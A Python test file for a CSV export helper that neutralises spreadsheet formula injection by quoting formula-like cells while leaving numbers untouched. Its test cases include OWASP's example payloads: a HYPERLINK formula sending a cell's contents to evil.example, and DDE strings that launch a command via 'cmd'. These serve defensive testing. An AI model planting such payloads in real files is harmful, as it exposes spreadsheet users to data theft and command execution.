"""The one CSV writer of every export: formula-looking text is quoted, numbers are not, and the
quote comes off again for backbone's own readers."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backbone.disclosure import safe_csv

# OWASP's examples and the signs a spreadsheet takes for a formula, each with what is written.
CASES = [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("=1+1", "'=1+1"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("'=1+1", "''=1+1"),  # already quoted by the partner: one more, so reading gives it back
    ("- bullet", "'- bullet"),
    ("-", "'-"),
    # Left alone: numbers as text, and text that a spreadsheet keeps as text.
    ("-3", "-3"), ("+7", "+7"), ("-2.5", "-2.5"), ("-2.5%", "-2.5%"), ("-1,234.5", "-1,234.5"),
    ("-1e5", "-1e5"), ("Asian", "Asian"), ("a=b", "a=b"), ("'quoted", "'quoted"), ("", ""),
]  # fmt: skip


@pytest.mark.parametrize(("text", "written"), CASES)
def test_formula_text_is_quoted_and_numbers_are_not(text, written):
    assert safe_csv.neutralise(text) == written


@pytest.mark.parametrize("value", [-3, -2.5, 0, None, True])
def test_values_that_are_not_text_are_written_as_they_are(value):
    assert safe_csv.neutralise(value) is value


def test_no_cell_of_a_written_row_starts_a_formula():
    out = io.StringIO()
    safe_csv.writer(out).writerow([text for text, _ in CASES] + [-3, 4.5])
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    numbers = {"-3", "+7", "-2.5", "-2.5%", "-1,234.5", "-1e5", "4.5"}
    assert [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c not in numbers] == []


@given(st.lists(st.text(max_size=12), min_size=1, max_size=6))
def test_reading_back_gives_exactly_what_was_written(cells):
    out = io.StringIO()
    writer = safe_csv.writer(out)
    writer.writerow([f"c{n}" for n in range(len(cells))])
    writer.writerow(cells)
    [row] = list(safe_csv.dict_rows(io.StringIO(out.getvalue(), newline="")))
    assert list(row.values()) == cells
